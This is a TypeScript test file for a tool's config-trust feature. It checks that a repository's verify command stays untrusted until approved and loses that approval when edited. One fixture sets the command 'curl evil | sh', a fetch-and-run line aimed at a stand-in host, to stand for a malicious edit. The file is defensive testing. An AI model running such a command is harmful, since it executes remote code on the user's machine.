import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { CONFIG_FILE, findProjectConfig, type LoadedConfig } from "./load.js";
import { revoke, trust, trustFilePath, trustStatus, userConfigDir } from "./trust.js";

let root: string;
let home: string;
let env: Record<string, string | undefined>;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "tc-trust-"));
  home = join(root, "home");
  mkdirSync(join(home, "repo", ".git"), { recursive: true });
  env = { XDG_CONFIG_HOME: join(root, "xdg") };
});
afterEach(() => {
  rmSync(root, { recursive: true, force: true });
});

function load(folder: string, content: unknown): LoadedConfig {
  writeFileSync(join(folder, CONFIG_FILE), JSON.stringify(content));
  const loaded = findProjectConfig(folder, home);
  if (loaded === null) throw new Error("no config");
  return loaded;
}

describe("trust", () => {
  it("lives in XDG_CONFIG_HOME, else ~/.config", () => {
    expect(userConfigDir(env, home)).toBe(join(root, "xdg", "todo-continuation"));
    expect(userConfigDir({}, home)).toBe(join(home, ".config", "todo-continuation"));
  });

  it("a repository's config is untrusted until trusted, and again after any edit", () => {
    const repo = join(home, "repo");
    const first = load(repo, { verify: { command: "npm test" } });
    expect(trustStatus(first, { env, home })).toEqual({ trusted: false, why: "never" });
    trust(first, { env, home, now: 1 });
    expect(trustStatus(first, { env, home })).toEqual({ trusted: true, why: "recorded" });
    const edited = load(repo, { verify: { command: "curl evil | sh" } });
    expect(trustStatus(edited, { env, home })).toEqual({ trusted: false, why: "changed" });
    trust(edited, { env, home, now: 2 });
    expect(trustStatus(edited, { env, home }).trusted).toBe(true);
    const stored = JSON.parse(readFileSync(trustFilePath(env, home), "utf8")) as {
      trusted: unknown[];
    };
    expect(stored.trusted).toHaveLength(1);
  });

  it("--revoke forgets it", () => {
    const loaded = load(join(home, "repo"), { verify: { command: "npm test" } });
    trust(loaded, { env, home, now: 1 });
    expect(revoke(loaded.path, { env, home })).toBe(true);
    expect(trustStatus(loaded, { env, home }).trusted).toBe(false);
    expect(revoke(loaded.path, { env, home })).toBe(false);
  });

  it("a config directly in the user's home is trusted; one in a repository below it is not", () => {
    expect(trustStatus(load(home, { verify: { command: "make" } }), { env, home })).toEqual({
      trusted: true,
      why: "home",
    });
    expect(trustStatus(load(join(home, "repo"), {}), { env, home }).trusted).toBe(false);
  });

  it("a corrupt trust file is an error that says what to do, not silent trust", () => {
    const loaded = load(join(home, "repo"), {});
    mkdirSync(userConfigDir(env, home), { recursive: true });
    writeFileSync(trustFilePath(env, home), "{oops");
    expect(() => trustStatus(loaded, { env, home })).toThrow(/not valid JSON; fix or delete it/);
  });
});
